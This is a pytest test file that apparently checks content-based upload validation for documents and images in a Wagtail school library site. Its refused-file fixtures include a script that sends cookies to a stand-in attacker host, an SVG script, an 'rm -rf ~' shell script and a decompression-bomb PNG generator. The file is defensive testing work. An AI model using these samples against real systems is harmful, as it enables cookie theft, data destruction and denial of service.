"""Uploads: documents and images are accepted for what their content is, never for their name.

Files are uploaded as a librarian does it, through the admin's add views, and checked through
the models' validation; the files are real (built by the same generators the text-extraction
tests use, or by Pillow and openpyxl).
"""

import io
import struct
import zipfile
import zlib

import openpyxl
import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from PIL import Image
from wagtail.images import get_image_model
from wagtail.models import Collection
from wagtail.users.models import UserProfile

from cabinet_site import roles
from cabinet_site.tests import builders
from cabinet_site.uploads import DOCUMENT_CHECKS
from resources.models import CabinetDocument
from resources.tests.fixtures_files import make_docx, make_odt, make_pdf, make_pptx

CabinetImage = get_image_model()

WEB_PAGE = "This file is a web page (HTML). Web pages cannot be uploaded"
SVG = "SVG images cannot be uploaded"
PROGRAM = "Programs and scripts cannot be uploaded."
MACROS = "Files with macros cannot be uploaded."
TOO_MANY_PIXELS = "The image is too large in pixels"
BROKEN_IMAGE = "The image is damaged or is not an image the site can read."


def not_a(extension):
    kind = extension.upper()
    return f"The file is named “.{extension}”, but its content is not a {kind} file."


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def librarian(db):
    user = builders.make_staff_user("librarian", roles.LIBRARIANS)
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = "en"
    profile.save()
    return user


def stored_files(media, folder):
    path = media / folder
    return sorted(p.name for p in path.rglob("*") if p.is_file()) if path.exists() else []


# Real files ----------------------------------------------------------------------------------------


def picture(image_format, size=(40, 30)):
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(buffer, image_format)
    return buffer.getvalue()


def png_of_size(width, height):
    """A real one-bit PNG, all white: a few kilobytes on disk, `width × height` pixels when unpacked."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\0" + b"\xff" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@pytest.fixture(scope="module")
def bomb_png():
    """20,000 × 20,000 pixels (400 megapixels, past even Pillow's own refusal) in about 50 KB."""
    return png_of_size(20_000, 20_000)


def xlsx():
    workbook = openpyxl.Workbook()
    workbook.active.append(["Сынып", "Оқушылар"])
    workbook.active.append(["5 А", 25])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_of(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_with_macros():
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(make_docx(["Сабақ"]))) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100)
    return buffer.getvalue()


def windows_program():
    header = bytearray(b"MZ" + b"\0" * 126)
    struct.pack_into("<I", header, 60, 128)
    return bytes(header) + b"PE\0\0" + b"\0" * 200


HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/?'+document.cookie</script>"
SVG_IMAGE = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PDF = make_pdf(["Сабақ жоспары", "Қазақ тілі, 5-сынып"])

GOOD_DOCUMENTS = [
    ("plan.pdf", PDF),
    ("plan.docx", make_docx(["Сабақ жоспары"])),
    ("slides.pptx", make_pptx([["Тақырып", "Мақсаты"]])),
    ("plan.odt", make_odt("<text:p>Сабақ жоспары</text:p>")),
    ("marks.xlsx", xlsx()),
    ("notes.txt", "Ескертпе: оқулық 2021 жылғы.".encode()),
    ("list.csv", "Аты;Сыныбы\nАсқар;5 А\n".encode("cp1251", "replace")),
    ("lessons.zip", zip_of({"plan.pdf": PDF, "notes.txt": "мәтін"})),
]

REFUSED_DOCUMENTS = [
    ("plan.pdf", HTML, WEB_PAGE),
    ("notes.txt", b"  <html><head><title>x</title></head></html>", WEB_PAGE),
    ("plan.docx", PDF, not_a("docx")),
    ("plan.pdf", make_docx(["Сабақ"]), not_a("pdf")),
    ("marks.xlsx", make_docx(["Сабақ"]), not_a("xlsx")),
    ("plan.odt", make_docx(["Сабақ"]), not_a("odt")),
    ("notes.txt", SVG_IMAGE, SVG),
    ("drawing.pdf", SVG_IMAGE, SVG),
    ("plan.pdf", windows_program(), PROGRAM),
    ("plan.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 64, PROGRAM),
    ("run.txt", b"#!/bin/sh\nrm -rf ~\n", PROGRAM),
    ("plan.docx", make_docx(["Сабақ"])[:300], not_a("docx")),
    ("lessons.zip", b"PK\x03\x04" + b"\0" * 100, not_a("zip")),
    ("plan.docx", docx_with_macros(), MACROS),
    ("lessons.zip", zip_of({"plan.pdf": PDF, "setup.exe": windows_program()}), "setup.exe"),
    ("page.html", HTML, "“html” is not allowed"),
    ("drawing.svg", SVG_IMAGE, "“svg” is not allowed"),
    ("script.js", b"alert(1)", "“js” is not allowed"),
    ("setup.exe", windows_program(), "“exe” is not allowed"),
]


# Settings ------------------------------------------------------------------------------------------


def test_every_allowed_document_type_has_a_content_check_and_nothing_runnable_is_allowed():
    assert set(settings.WAGTAILDOCS_EXTENSIONS) <= set(DOCUMENT_CHECKS)
    runnable = {"svg", "svgz", "html", "htm", "xhtml", "js", "exe", "bat", "sh", "php"}
    assert not runnable & set(settings.WAGTAILDOCS_EXTENSIONS)
    assert not runnable & set(settings.WAGTAILIMAGES_EXTENSIONS)


def test_documents_are_served_through_the_site_as_attachments():
    assert settings.WAGTAILDOCS_SERVE_METHOD == "serve_view"
    assert settings.WAGTAILDOCS_INLINE_CONTENT_TYPES == []


# Documents: model validation -----------------------------------------------------------------------


def document(name, content, collection=None):
    return CabinetDocument(
        title=name, file=SimpleUploadedFile(name, content), collection=collection or Collection.get_first_root_node()
    )


@pytest.mark.parametrize(("name", "content"), GOOD_DOCUMENTS, ids=[name for name, _ in GOOD_DOCUMENTS])
def test_real_documents_pass_validation(db, name, content):
    document(name, content).full_clean()


@pytest.mark.parametrize(
    ("name", "content", "message"), REFUSED_DOCUMENTS, ids=[f"{n}-{m[:20]}" for n, _, m in REFUSED_DOCUMENTS]
)
def test_forbidden_or_renamed_documents_are_refused_with_a_reason(db, name, content, message):
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        document(name, content).full_clean()

    assert message in " ".join(raised.value.message_dict["file"])


def test_the_size_limit_applies_to_documents(db, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1024
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        document("plan.pdf", b"%PDF-1.4\n" + b"%" * (3 * 1024 - 9)).full_clean()

    assert raised.value.message_dict["file"] == [
        "The file is too large (3.0\xa0KB). The largest file the site accepts is 1.0\xa0KB."
    ]


def test_a_stored_document_is_not_checked_again_when_only_its_title_changes(db, media):
    # Files stored before these checks existed stay editable.
    stored = CabinetDocument(title="old", collection=Collection.get_first_root_node())
    stored.file.save("old.pdf", ContentFile(b"<html>not really a pdf</html>"), save=False)
    stored.save()
    stored.title = "renamed"
    stored.full_clean()


# Documents: the admin ------------------------------------------------------------------------------


def add_document(client, name, content):
    return client.post(
        reverse("wagtaildocs:add"),
        {
            "title": name,
            "file": SimpleUploadedFile(name, content),
            "collection": Collection.get_first_root_node().pk,
            "tags": "",
            "language": "kk",
        },
    )


def test_librarian_adds_a_real_pdf_and_docx(client, librarian, media):
    client.force_login(librarian)

    for name, content in (("plan.pdf", PDF), ("plan.docx", make_docx(["Сабақ жоспары"]))):
        response = add_document(client, name, content)
        assert response.status_code == 302, response.context["form"].errors if response.context else response

    assert sorted(CabinetDocument.objects.values_list("title", flat=True)) == ["plan.docx", "plan.pdf"]
    assert stored_files(media, "documents") == ["plan.docx", "plan.pdf"]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("plan.pdf", HTML, WEB_PAGE),
        ("plan.docx", PDF, not_a("docx")),
        ("plan.pdf", windows_program(), PROGRAM),
        ("drawing.svg", SVG_IMAGE, "“svg” is not allowed"),
    ],
    ids=["html-as-pdf", "pdf-as-docx", "program-as-pdf", "svg"],
)
def test_librarian_is_told_why_a_document_is_refused_and_nothing_is_stored(
    client, librarian, media, name, content, message
):
    client.force_login(librarian)

    response = add_document(client, name, content)

    assert response.status_code == 200
    assert message in response.content.decode()
    assert CabinetDocument.objects.count() == 0
    assert stored_files(media, "documents") == []


def test_the_multiple_uploader_refuses_a_disguised_file_and_accepts_a_real_one(client, librarian, media):
    client.force_login(librarian)
    url = reverse("wagtaildocs:add_multiple")
    root = Collection.get_first_root_node().pk

    refused = client.post(url, {"files[]": SimpleUploadedFile("plan.pdf", HTML), "collection": root})
    accepted = client.post(url, {"files[]": SimpleUploadedFile("plan.pdf", PDF), "collection": root})

    assert refused.json()["success"] is False
    assert WEB_PAGE in refused.json()["error_message"]
    assert accepted.json()["success"] is True
    assert CabinetDocument.objects.count() == 1
    assert stored_files(media, "documents") == ["plan.pdf"]


def test_the_document_size_limit_is_shown_in_the_admin(client, librarian, media, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1024
    client.force_login(librarian)

    response = add_document(client, "plan.pdf", PDF + b"%" * 2048)

    assert response.status_code == 200
    assert "This file is too big" in response.content.decode()
    assert CabinetDocument.objects.count() == 0


# Images -----------------------------------------------------------------------------------------


def add_image(client, name, content):
    return client.post(
        reverse("wagtailimages:add"),
        {
            "title": name,
            "file": SimpleUploadedFile(name, content),
            "collection": Collection.get_first_root_node().pk,
            "tags": "",
            "description": "Сынып",
        },
    )


def test_librarian_adds_real_png_and_jpeg_pictures(client, librarian, media):
    client.force_login(librarian)

    for name, content in (("class.png", picture("PNG")), ("class.jpg", picture("JPEG"))):
        response = add_image(client, name, content)
        assert response.status_code == 302, response.context["form"].errors if response.context else response

    assert CabinetImage.objects.count() == 2
    assert stored_files(media, "original_images") == ["class.jpg", "class.png"]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("drawing.svg", SVG_IMAGE, SVG),
        ("drawing.png", SVG_IMAGE, SVG),
        ("page.png", HTML, WEB_PAGE),
        ("notes.png", "Сабақ жоспары".encode(), BROKEN_IMAGE),
        ("photo.png", picture("JPEG"), "Not a valid .png image"),
        ("cut.png", picture("PNG", (400, 300))[:200], BROKEN_IMAGE),
        ("wide.png", png_of_size(10_000, 6_000), "The image is too large in pixels (10000 × 6000)"),
    ],
    ids=["svg", "svg-as-png", "html-as-png", "text-as-png", "jpeg-as-png", "truncated-png", "60-megapixels"],
)
def test_a_refused_image_is_explained_and_not_stored(client, librarian, media, name, content, message):
    client.force_login(librarian)

    response = add_image(client, name, content)

    assert response.status_code == 200
    assert message in response.content.decode()
    assert CabinetImage.objects.count() == 0
    assert stored_files(media, "original_images") == []


def test_a_decompression_bomb_is_refused_without_being_unpacked(client, librarian, media, bomb_png):
    client.force_login(librarian)

    response = add_image(client, "bomb.png", bomb_png)

    assert len(bomb_png) < 100_000
    assert response.status_code == 200
    assert "The image is too large in pixels (20000 × 20000)" in response.content.decode()
    assert CabinetImage.objects.count() == 0
    assert stored_files(media, "original_images") == []


def test_the_multiple_uploader_refuses_a_bomb_and_accepts_a_real_picture(client, librarian, media, bomb_png):
    client.force_login(librarian)
    url = reverse("wagtailimages:add_multiple")
    root = Collection.get_first_root_node().pk

    refused = client.post(url, {"files[]": SimpleUploadedFile("bomb.png", bomb_png), "collection": root})
    accepted = client.post(url, {"files[]": SimpleUploadedFile("class.png", picture("PNG")), "collection": root})

    assert refused.json()["success"] is False
    assert "The image is too large in pixels (20000 × 20000)" in refused.json()["error_message"]
    assert accepted.json()["success"] is True
    assert list(CabinetImage.objects.values_list("title", flat=True)) == ["class.png"]
    assert stored_files(media, "original_images") == ["class.png"]
